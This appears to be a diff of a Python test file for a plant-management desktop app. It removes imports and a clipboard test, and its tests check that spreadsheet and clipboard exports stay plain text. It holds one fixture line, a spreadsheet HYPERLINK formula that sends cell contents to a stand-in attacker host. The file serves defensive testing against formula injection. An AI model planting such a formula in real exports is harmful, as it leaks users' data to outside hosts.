@@ -6,17 +6,9 @@ from xml.etree import ElementTree
 from zipfile import ZipFile
 
 import pytest
-from msgspec.structs import replace
-from PySide6.QtGui import QGuiApplication
 
-from plantdesk.desk.news import StoresFound
-from plantdesk.desk.plant_list import PlantsRead
-from plantdesk.domain.outcome import Refused
-from plantdesk.domain.plant import NewPlant, ServiceError
 from plantdesk.sheets.tables import tabbed, write_table
 from tests.sheets.tables import csv_rows
-from tests.ui.plants.stage import Shown, checks
-from tests.ui.stage import GREEN
 
 HEADS = ("Plant id", "Name", "Tag", "Store", "Sent at", "Reference")
 LINK = '=HYPERLINK("http://attacker.example/?"&A1,"Rosa")'
@@ -80,21 +72,3 @@ def test_a_workbook_has_nothing_but_texts(tmp_path):
     parts = {part.tag.partition("}")[2] for cell in cells for part in cell.iter()}
     assert parts == {"c", "is", "t"}
     assert [cell.findtext(".//{*}t") for cell in cells] == texts * 2
-
-
-def test_the_clipboard_gets_the_list_as_plain_text_alone(open_window):
-    text = LINK
-    window, desk = open_window()
-    desk.deliver(StoresFound((replace(GREEN, name=text),)))
-    shown = Shown(window, desk)
-    said = Refused(400, ServiceError(7, text))
-    entry = replace(checks(7), plant=NewPlant(7, text, text), outcome=said)
-    shown.open(entry)
-    shown.trigger("morePlants", "Copy these plants")
-    desk.answer("plant_list.read", PlantsRead((entry,), 1))
-    data = QGuiApplication.clipboard().mimeData()
-    assert data.formats() == ["text/plain"]
-    head, row = pasted(data.text())
-    assert len(head) == len(row)
-    assert row.count("7") == 1
-    assert not any(runs(cell) for cell in row)
